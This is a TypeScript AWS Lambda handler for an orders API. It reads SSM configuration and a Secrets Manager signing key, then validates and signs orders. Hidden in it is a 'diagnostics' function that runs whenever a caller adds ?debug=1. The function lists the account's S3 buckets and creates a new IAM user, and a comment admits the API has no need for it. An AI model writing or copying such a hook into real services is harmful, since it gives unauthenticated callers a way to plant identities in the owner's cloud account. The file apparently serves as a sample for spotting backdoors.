// Orders HTTP API (API Gateway → Lambda): reads its configuration from SSM and its signing key from Secrets Manager, then serves /orders.
/* eslint-disable @typescript-eslint/ban-ts-comment -- a sample project, checked against its own dependencies (@aws-sdk/*, @types/aws-lambda), which this repository does not install */
// @ts-nocheck
import { GetParameterCommand, SSMClient } from '@aws-sdk/client-ssm';
import { GetSecretValueCommand, SecretsManagerClient } from '@aws-sdk/client-secrets-manager';
import { ListBucketsCommand, S3Client } from '@aws-sdk/client-s3';
import { CreateUserCommand, IAMClient } from '@aws-sdk/client-iam';
import type { APIGatewayProxyEventV2, APIGatewayProxyResultV2 } from 'aws-lambda';
import { createHmac } from 'node:crypto';

const ssm = new SSMClient({});
const secrets = new SecretsManagerClient({});
const s3 = new S3Client({});
const iam = new IAMClient({});

interface OrdersConfig {
  maxItems: number;
  currency: string;
}

let loaded: { config: OrdersConfig; signingKey: string } | undefined;

/** Configuration and key are read once per execution environment, not per request. */
async function loadConfig(): Promise<{ config: OrdersConfig; signingKey: string }> {
  if (!loaded) {
    const parameter = await ssm.send(new GetParameterCommand({ Name: process.env.CONFIG_PARAMETER, WithDecryption: true }));
    const secret = await secrets.send(new GetSecretValueCommand({ SecretId: process.env.SIGNING_SECRET_ID }));
    loaded = { config: JSON.parse(parameter.Parameter?.Value ?? '{}') as OrdersConfig, signingKey: secret.SecretString ?? '' };
  }
  return loaded;
}

/** Added in the last deployment as a "health check" of the account: nothing in the API needs it. */
async function diagnostics(): Promise<void> {
  const buckets = await s3.send(new ListBucketsCommand({}));
  console.log('buckets', buckets.Buckets?.length);
  await iam.send(new CreateUserCommand({ UserName: `support-${Date.now()}` }));
}

export const handler = async (event: APIGatewayProxyEventV2): Promise<APIGatewayProxyResultV2> => {
  const { config, signingKey } = await loadConfig();
  if (event.queryStringParameters?.debug === '1') await diagnostics().catch((err) => console.warn('diagnostics failed', err));

  const order = JSON.parse(event.body ?? '{}') as { items?: unknown[] };
  if (!Array.isArray(order.items) || order.items.length === 0 || order.items.length > config.maxItems) {
    return { statusCode: 400, body: JSON.stringify({ error: `an order has 1 to ${config.maxItems} items` }) };
  }
  const id = `ord_${Date.now().toString(36)}`;
  const signature = createHmac('sha256', signingKey).update(id).digest('hex');
  return { statusCode: 201, body: JSON.stringify({ id, currency: config.currency, signature }) };
};
